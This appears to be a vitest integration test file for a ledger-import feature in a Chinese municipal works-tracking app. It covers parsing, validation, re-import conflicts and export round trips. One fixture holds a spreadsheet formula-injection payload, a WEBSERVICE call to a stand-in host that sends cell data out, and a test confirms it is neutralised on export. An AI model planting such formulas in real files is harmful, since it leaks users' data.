import { readFile } from 'node:fs/promises';
import ExcelJS from 'exceljs';
import gcoord from 'gcoord';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportState, LedgerSummary, UnplacedRowOutput } from '../../server/src/domain/ledgerImport.js';
import { MAX_LEDGER_BYTES } from '../../server/src/domain/ledgerImport.js';
import { startPreview, uploadLedger as uploadThroughService } from '../../server/src/services/ledgerImports.js';
import { startTestApp } from '../helpers/app.js';
import { loginAs, type TestSession } from '../helpers/auth.js';
import { createProject, pointFeature } from '../helpers/fixtures.js';
import { acceptedOptions, commitImport, previewLedger, previewRowsOf, settled, uploadLedger } from '../helpers/imports.js';

let app: FastifyInstance;
let planner: TestSession;
const fixture = (name: string) => readFile(new URL(`../fixtures/ledgers/${name}`, import.meta.url));
const UNIT = '石鼓区住房和城乡建设局';

beforeAll(async () => {
  app = await startTestApp();
  planner = await loginAs(app, 'planner');
});
afterAll(async () => {
  // The projects these imports made would show in the other files' maps, lists and counts.
  await app?.db.pool.query(
    `UPDATE projects SET deleted_at = now()
      WHERE deleted_at IS NULL
        AND (id IN (SELECT project_id FROM ledger_keys) OR id IN (SELECT placed_project_id FROM ledger_import_rows))`,
  );
  await app?.close();
});

interface Stored {
  id: number;
  title: string;
  kind: string;
  status: string;
  address: string | null;
  unit_name: string | null;
  area_name: string | null;
  reported_on: string;
  deadline: string | null;
  completed_on: string | null;
  households_benefited: number | null;
  reporter_phone: string | null;
  internal_note: string | null;
  version: number;
  lon: number;
  lat: number;
}

/** What the database holds for the projects of one ledger, by ledger key. */
async function projectsOfLedger(name: string): Promise<Map<string, Stored>> {
  const { rows } = await app.db.pool.query<Stored & { row_key: string }>(
    `SELECT k.row_key, p.id, p.title, p.kind, p.status, p.address, u.name AS unit_name, a.name AS area_name,
            p.reported_on, p.deadline, p.completed_on, p.households_benefited, p.reporter_phone, p.internal_note, p.version,
            ST_X(ST_PointOnSurface(p.geom)) AS lon, ST_Y(ST_PointOnSurface(p.geom)) AS lat
       FROM ledger_keys k JOIN ledgers l ON l.id = k.ledger_id JOIN projects p ON p.id = k.project_id
       LEFT JOIN units u ON u.id = p.unit_id LEFT JOIN areas a ON a.id = p.area_id
      WHERE l.name = $1 AND p.deleted_at IS NULL`,
    [name],
  );
  return new Map(rows.map(({ row_key, ...p }) => [row_key, p]));
}

async function tableCounts() {
  const { rows } = await app.db.pool.query<{ projects: number; history: number; imports: number }>(
    `SELECT (SELECT count(*) FROM projects)::int AS projects, (SELECT count(*) FROM project_history)::int AS history,
            (SELECT count(*) FROM ledger_imports)::int AS imports`,
  );
  return rows[0]!;
}

describe('the messy ledger: merged title rows, blank rows, full-width digits, trailing spaces', () => {
  const LEDGER = '石鼓区2024年民生实事台账';
  let state: ImportState;

  beforeAll(async () => {
    state = await previewLedger(planner, `${LEDGER}.xlsx`, await fixture('messy.xlsx'));
  });

  it('finds the header under the title rows and maps every column from its header', () => {
    const sheet = state.sheets[0]!;
    expect(state.sheets.map((s) => [s.name, s.header_row])).toEqual([
      ['2024年台账', 3],
      ['填表说明', null],
    ]);
    expect(sheet.data_rows).toBe(12);
    expect(sheet.columns.map((c) => `${c.letter} ${c.header} → ${c.field}`)).toEqual([
      'A 序号 → ledger_key',
      'B 项目名称 → title',
      'C 类别 → kind',
      'D 具体位置 → address',
      'E 经度(E) → lon',
      'F 纬度(N) → lat',
      'G 所属街道 → street',
      'H 责任单位 → unit',
      'I 上报日期 → reported_on',
      'J 完成时限 → deadline',
      'K 完成日期 → completed_on',
      'L 进展 → status',
      'M 受益户数(户) → households',
      'N 联系电话 → reporter_phone',
      'O 备注 → internal_note',
    ]);
    expect(state.ledger).toEqual({ name: LEDGER, known: false });
  });

  it('previews every row with its outcome, and each rejection with its row, column and reason', async () => {
    const rows = await previewRowsOf(planner, state.id);
    const lines = rows.map((r) => [r.row_number, r.row_key, r.outcome, ...r.problems.map((p) => `${p.column} ${p.header}: ${p.reason_zh}`)]);
    expect(lines).toEqual([
      [5, '1', 'create'],
      [6, '2', 'create'],
      // Row 7 is blank and row 18 is the 合计 line: neither is a project.
      [8, '3', 'create'],
      [9, '4', 'rejected', 'C 类别: “绿化”不是可识别的类型,应为路灯、下水道、老旧小区或充电桩'],
      [10, '5', 'rejected', 'E 经度(E): 经纬度 2.3522, 48.8566 不在中国境内'],
      [11, '6', 'unplaced'],
      [12, '7', 'rejected', 'H 责任单位: 责任单位“不存在的管理局”在石鼓区不存在:请在“值的核对”中确定其含义(采纳建议、选择单位或新建单位)'],
      [13, '2', 'rejected', 'A 序号: 与第 6 行的编号重复'],
      [14, '8', 'rejected', 'I 上报日期: 2024-13-45 不是真实存在的日期'],
      [15, '9', 'create'],
      [16, '10', 'create'],
      [17, '11', 'rejected', 'E 经度(E): 经纬度 26.9016, 112.6117 不在中国境内(经度与纬度疑似填反)'],
    ]);
    expect(rows.find((r) => r.row_number === 10)!.problems[0]!.reason).toBe('2.3522, 48.8566 is outside China');
    expect(state.counts).toEqual({ create: 5, update: 0, unchanged: 0, conflict: 0, rejected: 6, unplaced: 1 });
  });

  it('pages the preview by outcome', async () => {
    const page = (await planner.inject(`/api/imports/${state.id}/rows?outcome=rejected&offset=2&limit=2`)).json<{ total: number; rows: { row_number: number }[] }>();
    expect(page.total).toBe(6);
    expect(page.rows.map((r) => r.row_number)).toEqual([12, 13]);
  });

  it('writes nothing before the planner confirms', async () => {
    expect((await projectsOfLedger(LEDGER)).size).toBe(0);
  });

  it('offers the rejected rows as a workbook with the ledger’s columns, the row number and a reason column', async () => {
    const response = await planner.inject(`/api/imports/${state.id}/rejected.xlsx`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toContain(encodeURIComponent(`${LEDGER}-无法导入的行.xlsx`));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['序号', '项目名称', '类别']);
    expect(header.slice(-2)).toEqual(['原行号', '原因']);
    expect(sheet.rowCount).toBe(7);
    expect(sheet.getRow(2).getCell(2).value).toBe('社区绿化提升');
    expect(sheet.getRow(2).getCell(header.length - 1).value).toBe(9);
    expect(String(sheet.getRow(2).getCell(header.length).value)).toContain('C 类别:“绿化”不是可识别的类型');
  });

  it('writes the valid rows in one go: values read as the clerk meant them, areas derived, history kept', async () => {
    const before = await tableCounts();
    const done = await commitImport(planner, state.id);
    expect(done.counts).toEqual({ create: 5, update: 0, unchanged: 0, conflict: 0, rejected: 6, unplaced: 1 });
    const after = await tableCounts();
    expect(after.projects - before.projects).toBe(5);
    // One creation each, and a step for each status a row is further along the loop: 整改中 two, 已完成 three.
    expect(after.history - before.history).toBe(5 + 2 + 3);

    const stored = await projectsOfLedger(LEDGER);
    expect([...stored.keys()].sort()).toEqual(['1', '10', '2', '3', '9']);
    expect(stored.get('1')).toMatchObject({
      title: '人民路路灯维修',
      kind: 'streetlight',
      status: 'in_progress',
      unit_name: UNIT,
      // Excel's serial 45296, "2024/3/1", "１２０" in full-width digits, a note with trailing spaces.
      reported_on: '2024-01-05',
      deadline: '2024-03-01',
      households_benefited: 120,
      reporter_phone: '0734-8221234',
      internal_note: '台账甲内部备注:需夜间施工',
      lon: 112.6105,
      lat: 26.9005,
    });
    expect(stored.get('1')!.area_name).not.toBeNull();
    // The unit cell merged down over rows 5 and 6 belongs to both.
    expect(stored.get('2')).toMatchObject({ title: '解放路下水道疏通', status: 'completed', unit_name: UNIT, reported_on: '2024-02-03', completed_on: '2024-02-20', households_benefited: 45 });
    expect(stored.get('3')).toMatchObject({ kind: 'charging', lon: 112.613, lat: 26.9012, reported_on: '2024-04-08', unit_name: null });
    // Text that looks like a formula is kept as text; a formula cell gives the value Excel showed.
    expect(stored.get('9')!.title).toBe('=WEBSERVICE("http://ledger.example/?x="&A1)');
    expect(stored.get('10')!.title).toBe('东风路路灯维修');

    const history = (await planner.inject(`/api/projects/${stored.get('1')!.id}/history`)).json<{ action: string; note: string; actor: string; from_status: string | null; to_status: string }[]>();
    const fromLedger = { actor: 'demo-planner', note: expect.stringContaining(`导入台账“${LEDGER}”第 5 行`) };
    expect(history).toEqual([
      expect.objectContaining({ action: 'create', from_status: null, to_status: 'reported', ...fromLedger }),
      expect.objectContaining({ action: 'transition', from_status: 'reported', to_status: 'assigned', ...fromLedger }),
      expect.objectContaining({ action: 'transition', from_status: 'assigned', to_status: 'in_progress', ...fromLedger }),
    ]);
    expect(history[1]!.note).toContain('台账记载的办理进展');
  });

  it('neutralises the formula-like title on the way out to Excel', async () => {
    const id = (await projectsOfLedger(LEDGER)).get('9')!.id;
    const csv = (await planner.inject(`/api/projects/export?format=csv&q=${encodeURIComponent('ledger.example')}`)).body;
    expect(csv).toContain(`'=WEBSERVICE(`);
    expect(csv).not.toMatch(/(^|,)"?=WEBSERVICE/m);
    expect(id).toBeGreaterThan(0);
  });

  it('keeps the row with an address and no coordinates for the planner to place on the map', async () => {
    const unplaced = (await planner.inject('/api/imports/unplaced')).json<UnplacedRowOutput[]>();
    const row = unplaced.find((r) => r.ledger_name === LEDGER)!;
    expect(row).toMatchObject({ import_id: state.id, row_number: 11, row_key: '6', title: '先锋路下水道疏通', kind: 'drainage', address: '雁峰区先锋路12号' });

    const outside = await planner.inject({ method: 'POST', url: `/api/imports/${state.id}/rows/11/place`, payload: { lon: 2.35, lat: 48.85 } });
    expect(outside.statusCode).toBe(400);
    expect(outside.json().errors[0]).toMatchObject({ field: '/lon', reason_zh: expect.stringContaining('不在中国境内') });

    const placed = await planner.inject({ method: 'POST', url: `/api/imports/${state.id}/rows/11/place`, payload: { lon: 112.6021, lat: 26.8853 } });
    expect(placed.statusCode, placed.body).toBe(201);
    const project = (await planner.inject(`/api/projects/${placed.json().project_id}`)).json();
    expect(project.properties).toMatchObject({ title: '先锋路下水道疏通', address: '雁峰区先锋路12号', status: 'reported' });
    expect(project.geometry).toEqual({ type: 'Point', coordinates: [112.6021, 26.8853] });
    expect((await planner.inject('/api/imports/unplaced')).json<UnplacedRowOutput[]>().some((r) => r.ledger_name === LEDGER)).toBe(false);
    const again = await planner.inject({ method: 'POST', url: `/api/imports/${state.id}/rows/11/place`, payload: { lon: 112.6021, lat: 26.8853 } });
    expect(again.statusCode).toBe(409);
  });

  it('refuses to write the same import twice', async () => {
    const again = await planner.inject({ method: 'POST', url: `/api/imports/${state.id}/commit`, payload: {} });
    expect(again.statusCode).toBe(409);
    expect(again.json().code).toBe('IMPORT_BUSY');
  });

  it('remembers the confirmed mapping for the ledger, and knows the ledger when it comes back', async () => {
    const ledgers = (await planner.inject('/api/ledgers')).json<LedgerSummary[]>();
    expect(ledgers.find((l) => l.name === LEDGER)).toMatchObject({ crs: 'wgs84', projects: 6, mapping: expect.objectContaining({ 序号: 'ledger_key', 备注: 'internal_note' }) });

    // A planner maps 备注 to the public description instead; the next upload starts from that.
    const upload = (await uploadLedger(planner, `${LEDGER}.xlsx`, await fixture('messy.xlsx'))).json<ImportState>();
    expect(upload.ledger).toEqual({ name: LEDGER, known: true });
    const options = acceptedOptions(upload);
    options.mapping[14] = 'description';
    options.mapping[6] = null;
    expect((await planner.inject({ method: 'POST', url: `/api/imports/${upload.id}/preview`, payload: options })).statusCode).toBe(202);
    await settled(planner, upload.id);
    const next = (await uploadLedger(planner, `${LEDGER}.xlsx`, await fixture('messy.xlsx'))).json<ImportState>();
    expect(next.sheets[0]!.columns[14]!.field).toBe('description');
    expect(next.sheets[0]!.columns[6]!.field).toBeNull();
  });
});

describe('re-importing a ledger', () => {
  const LEDGER = '雁峰区路灯台账';
  const ledger = (households: number, title = '回雁路路灯维修') =>
    Buffer.from(['序号,项目名称,类型,状态,地址,经度,纬度,受益户数', `R1,${title},路灯,已上报,回雁路1号,112.6031,26.8871,${households}`, 'R2,雁峰路路灯维修,路灯,已上报,雁峰路2号,112.6041,26.8881,20', ''].join('\n'));

  it('updates the projects it created instead of duplicating them, and leaves unchanged ones alone', async () => {
    await commitImport(planner, (await previewLedger(planner, `${LEDGER}.csv`, ledger(10))).id);
    const first = await projectsOfLedger(LEDGER);
    expect(first.size).toBe(2);

    const again = await previewLedger(planner, `${LEDGER}.csv`, ledger(15));
    const rows = await previewRowsOf(planner, again.id);
    expect(rows.map((r) => [r.row_key, r.outcome, r.project_id])).toEqual([
      ['R1', 'update', first.get('R1')!.id],
      ['R2', 'unchanged', first.get('R2')!.id],
    ]);
    expect(rows[0]!.changes).toEqual({ households_benefited: [10, 15] });
    await commitImport(planner, again.id);

    const second = await projectsOfLedger(LEDGER);
    expect(second.size).toBe(2);
    expect(second.get('R1')).toMatchObject({ id: first.get('R1')!.id, households_benefited: 15, version: 2 });
    expect(second.get('R2')).toMatchObject({ id: first.get('R2')!.id, version: 1 });
    const history = (await planner.inject(`/api/projects/${first.get('R1')!.id}/history`)).json<{ action: string; changes: unknown }[]>();
    expect(history.map((h) => h.action)).toEqual(['create', 'update']);
    expect(history[1]!.changes).toEqual({ households_benefited: [10, 15] });
  });

  it('reports a project changed in the app since the last import as a conflict, and does not overwrite it', async () => {
    const project = (await projectsOfLedger(LEDGER)).get('R1')!;
    const edit = await planner.inject({ method: 'PATCH', url: `/api/projects/${project.id}`, payload: { version: project.version, properties: { title: '回雁路路灯维修(已改期)' } } });
    expect(edit.statusCode, edit.body).toBe(200);

    const again = await previewLedger(planner, `${LEDGER}.csv`, ledger(99));
    const rows = await previewRowsOf(planner, again.id);
    expect(rows[0]).toMatchObject({ row_key: 'R1', outcome: 'conflict' });
    expect(rows[0]!.problems[0]!.reason_zh).toContain(`项目 ${project.id} 在上次导入后已在系统中修改`);
    await commitImport(planner, again.id);
    expect((await projectsOfLedger(LEDGER)).get('R1')).toMatchObject({ title: '回雁路路灯维修(已改期)', households_benefited: 15 });
  });

  it('turns an update into a conflict when the project changes between the preview and the commit', async () => {
    const LATE = '迟到的修改台账';
    const csv = (n: number) => Buffer.from(['序号,项目名称,类型,地址,经度,纬度,受益户数', `L1,岳屏路路灯维修,路灯,岳屏路1号,112.6051,26.8891,${n}`, ''].join('\n'));
    await commitImport(planner, (await previewLedger(planner, `${LATE}.csv`, csv(1))).id);
    const preview = await previewLedger(planner, `${LATE}.csv`, csv(2));
    expect((await previewRowsOf(planner, preview.id))[0]!.outcome).toBe('update');
    const project = (await projectsOfLedger(LATE)).get('L1')!;
    await planner.inject({ method: 'PATCH', url: `/api/projects/${project.id}`, payload: { version: project.version, properties: { households_benefited: 7 } } });

    const done = await commitImport(planner, preview.id);
    expect(done.counts).toMatchObject({ update: 0, conflict: 1 });
    expect((await projectsOfLedger(LATE)).get('L1')).toMatchObject({ households_benefited: 7 });
  });
});

describe('ledgers in other encodings, coordinate systems and languages', () => {
  it('reads a GBK CSV as Excel on a Chinese Windows saves it', async () => {
    const state = await previewLedger(planner, 'GBK台账.csv', await fixture('gbk.csv'));
    const rows = await previewRowsOf(planner, state.id);
    expect(rows.map((r) => [r.title, r.outcome])).toEqual([
      ['常胜路路灯维修', 'create'],
      ['船山路下水道疏通', 'create'],
    ]);
  });

  it('converts GCJ-02 coordinates to WGS-84 when the planner says the ledger uses them', async () => {
    const state = await previewLedger(planner, '高德坐标台账.csv', await fixture('gcj02.csv'), { crs: 'gcj02' });
    const [row] = await previewRowsOf(planner, state.id);
    expect(row!.warnings[0]!.reason_zh).toBe('坐标已由 GCJ-02 转换为 WGS-84');
    await commitImport(planner, state.id);
    const stored = (await projectsOfLedger('高德坐标台账')).get('1')!;
    const [lon, lat] = gcoord.transform([112.616, 26.898], gcoord.GCJ02, gcoord.WGS84) as [number, number];
    expect(stored.lon).toBeCloseTo(lon, 6);
    expect(stored.lat).toBeCloseTo(lat, 6);
    // The shift in Hengyang is several hundred metres: far more than rounding.
    expect(Math.abs(stored.lon - 112.616) + Math.abs(stored.lat - 26.898)).toBeGreaterThan(0.003);
  });

  it('maps English headers and words', async () => {
    const state = await previewLedger(planner, 'english.csv', await fixture('english.csv'));
    expect(state.sheets[0]!.columns.map((c) => c.field)).toEqual(['ledger_key', 'title', 'kind', 'status', 'address', 'lon', 'lat', 'reported_on', 'households']);
    expect((await previewRowsOf(planner, state.id)).map((r) => r.outcome)).toEqual(['create']);
  });
});

describe('bad input: a clear message, and nothing written', () => {
  const refusals: [string, string | Buffer, number, string, string][] = [
    ['truncated.xlsx', 'truncated.xlsx', 400, 'UNREADABLE_FILE', '文件不是可读取的 .xlsx 工作簿'],
    ['old-excel.xls', 'old-excel.xls', 400, 'UNREADABLE_FILE', '请在 Excel 或 WPS 中另存为 .xlsx'],
    ['no-header.xlsx', 'no-header.xlsx', 400, 'NO_HEADER', '未找到表头'],
    ['mixed-encodings.csv', 'mixed-encodings.csv', 400, 'MIXED_ENCODINGS', '文件混用了多种编码:第 1 行为 UTF-8,第 3 行不是'],
    ['empty.csv', Buffer.alloc(0), 400, 'UNREADABLE_FILE', '文件为空'],
    ['photo.csv', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]), 400, 'UNREADABLE_FILE', '既不是'],
  ];
  it.each(refusals)('%s', async (name, source, status, code, zh) => {
    const before = await tableCounts();
    const bytes = typeof source === 'string' ? await fixture(source) : source;
    const response = await uploadLedger(planner, name, bytes);
    expect(response.statusCode, response.body).toBe(status);
    expect(response.json()).toMatchObject({ code, message_zh: expect.stringContaining(zh) });
    expect(await tableCounts()).toEqual(before);
  });

  it('refuses a file over 50 MB before reading it', async () => {
    const before = await tableCounts();
    const response = await uploadLedger(planner, 'huge.csv', Buffer.alloc(MAX_LEDGER_BYTES + 1, 0x41));
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 'FILE_TOO_LARGE', message_zh: expect.stringContaining('文件超过 50 MB') });
    expect(await tableCounts()).toEqual(before);
  });

  it('names the mapping problem when title or position is not mapped, and starts nothing', async () => {
    const upload = (await uploadLedger(planner, 'mapping.csv', await fixture('english.csv'))).json<ImportState>();
    const options = acceptedOptions(upload);
    const noTitle = await planner.inject({ method: 'POST', url: `/api/imports/${upload.id}/preview`, payload: { ...options, mapping: options.mapping.map((f) => (f === 'title' ? null : f)) } });
    expect(noTitle.statusCode).toBe(400);
    expect(noTitle.json().errors).toEqual([expect.objectContaining({ field: '/mapping', reason_zh: '请指定“项目名称”所在的列' })]);
    const twice = await planner.inject({ method: 'POST', url: `/api/imports/${upload.id}/preview`, payload: { ...options, mapping: options.mapping.map((f) => (f === 'address' ? 'title' : f)) } });
    expect(twice.json().errors).toEqual([expect.objectContaining({ field: '/mapping/4', reason_zh: '“项目名称”已对应第 2 列' })]);
    const noPlace = await planner.inject({
      method: 'POST',
      url: `/api/imports/${upload.id}/preview`,
      payload: { ...options, mapping: options.mapping.map((f) => (f === 'lon' || f === 'lat' || f === 'address' ? null : f)) },
    });
    expect(noPlace.json().errors[0].reason_zh).toBe('请指定项目位置:经纬度、几何或地址所在的列');
    expect((await planner.inject(`/api/imports/${upload.id}`)).json<ImportState>().state).toBe('uploaded');
  });

  it('lets only planners import', async () => {
    const bytes = await fixture('english.csv');
    for (const role of ['unit', 'leader', 'admin'] as const) {
      const session = await loginAs(app, role);
      expect((await uploadLedger(session, 'x.csv', bytes)).statusCode).toBe(403);
      expect((await session.inject('/api/imports/unplaced')).statusCode).toBe(403);
    }
    const anonymous = await app.inject({ method: 'POST', url: '/api/imports?file_name=x.csv', headers: { 'content-type': 'text/csv' }, payload: bytes });
    expect(anonymous.statusCode).toBe(401);
  });
});

describe('progress', () => {
  it('reports analysed rows as it goes, ending at the total', async () => {
    const lines = ['序号,项目名称,类型,地址,经度,纬度'];
    for (let i = 1; i <= 1200; i++) lines.push(`P${i},进度测试 ${i},路灯,进度路${i}号,,`);
    const ctx = { pool: app.db.pool, actor: 'demo-planner', today: app.today() };
    const uploaded = await uploadThroughService(ctx, '进度台账.csv', Buffer.from(lines.join('\n')));
    const seen: [number, number][] = [];
    const { job } = await startPreview(ctx, uploaded.id, acceptedOptions(uploaded), (done, total) => seen.push([done, total]));
    expect(await job).toMatchObject({ unplaced: 1200 });
    expect(seen).toEqual([
      [500, 1200],
      [1000, 1200],
      [1200, 1200],
    ]);
  });
});

describe('the round trip: export, then import the export as a new ledger', () => {
  it('reproduces every field of the projects', async () => {
    const MARK = '往返测试';
    const unitId = (await app.db.pool.query<{ id: number }>('SELECT id FROM units WHERE name = $1', [UNIT])).rows[0]!.id;
    const originals = [
      pointFeature({ kind: 'streetlight', title: `${MARK} 路灯`, address: '人民路80号', description: '灯杆倾斜', households_benefited: 12, reporter_name: '往返测试上报人', reporter_phone: '13800000000', internal_note: '往返测试的内部备注', reported_on: '2024-05-01', attributes: { lamps_repaired: 3 } }, [112.6123456, 26.9012345]),
      pointFeature({ kind: 'charging', title: `${MARK} 充电桩`, unit_id: unitId, deadline: '2024-08-01', reported_on: '2024-05-02', attributes: { piles: 8, vehicle: 'e-bike' } }, [112.6133, 26.9022]),
      { type: 'Feature', geometry: { type: 'LineString', coordinates: [[112.6141, 26.9031], [112.6151, 26.9041]] }, properties: { kind: 'drainage', title: `${MARK} 下水道`, reported_on: '2024-05-03' } },
    ];
    const created = [];
    for (const feature of originals) created.push(await createProject(planner, feature));

    const exported = await planner.inject(`/api/projects/export?format=xlsx&q=${encodeURIComponent(MARK)}`);
    expect(exported.statusCode).toBe(200);
    const before = new Map<string, Record<string, unknown>>();
    for (const p of created) {
      const { properties, geometry } = (await planner.inject(`/api/projects/${p.id}`)).json();
      before.set(properties.title, { ...properties, geometry });
      await planner.inject({ method: 'DELETE', url: `/api/projects/${p.id}?version=${properties.version}` });
    }

    const state = await previewLedger(planner, '往返台账.xlsx', exported.rawPayload);
    expect(state.counts).toMatchObject({ create: 3, rejected: 0 });
    await commitImport(planner, state.id);
    const reimported = await projectsOfLedger('往返台账');
    expect(reimported.size).toBe(3);
    const IGNORED = ['id', 'version', 'created_at', 'updated_at', 'deadline_standing', 'days_overdue', 'days_left', 'overdue', 'links'];
    for (const p of reimported.values()) {
      const { properties, geometry } = (await planner.inject(`/api/projects/${p.id}`)).json();
      const original = before.get(properties.title)!;
      expect(original, properties.title).toBeDefined();
      const strip = (o: Record<string, unknown>) => Object.fromEntries(Object.entries(o).filter(([k]) => !IGNORED.includes(k)));
      expect(strip({ ...properties, geometry })).toEqual(strip(original));
    }
  });

  it('reproduces every demo project, polygons, loop dates and private fields included', async () => {
    const exported = await planner.inject('/api/projects/export?format=xlsx');
    const originals = new Map<string, Record<string, unknown>>();
    for (const f of (await planner.inject('/api/projects?limit=5000')).json<{ features: { id: number }[] }>().features) {
      const { properties, geometry } = (await planner.inject(`/api/projects/${f.id}`)).json();
      originals.set(String(f.id), { ...properties, geometry });
    }
    expect(originals.size).toBeGreaterThan(300);

    const state = await previewLedger(planner, '全部项目导出.xlsx', exported.rawPayload);
    expect(state.counts).toMatchObject({ create: originals.size, rejected: 0, unplaced: 0 });
    await commitImport(planner, state.id);
    const copies = await projectsOfLedger('全部项目导出');
    expect(copies.size).toBe(originals.size);
    // Derived from follow-ups and history, which a ledger does not carry.
    const IGNORED = ['id', 'version', 'created_at', 'updated_at', 'reopen_count', 'is_demo'];
    // XML (and so XLSX) reads every CR LF as LF: the one change a workbook makes to text.
    const strip = (o: Record<string, unknown>) =>
      Object.fromEntries(Object.entries(o).filter(([k]) => !IGNORED.includes(k)).map(([k, v]) => [k, typeof v === 'string' ? v.replace(/\r\n/g, '\n') : v]));
    try {
      for (const [key, copy] of copies) {
        const { properties, geometry } = (await planner.inject(`/api/projects/${copy.id}`)).json();
        expect(strip({ ...properties, geometry }), `ledger row 序号 ${key}`).toEqual(strip(originals.get(key)!));
      }
    } finally {
      // The copies would double every count the other test files read.
      await app.db.pool.query('UPDATE projects SET deleted_at = now() WHERE id = ANY($1::bigint[])', [[...copies.values()].map((c) => c.id)]);
    }
  });
});
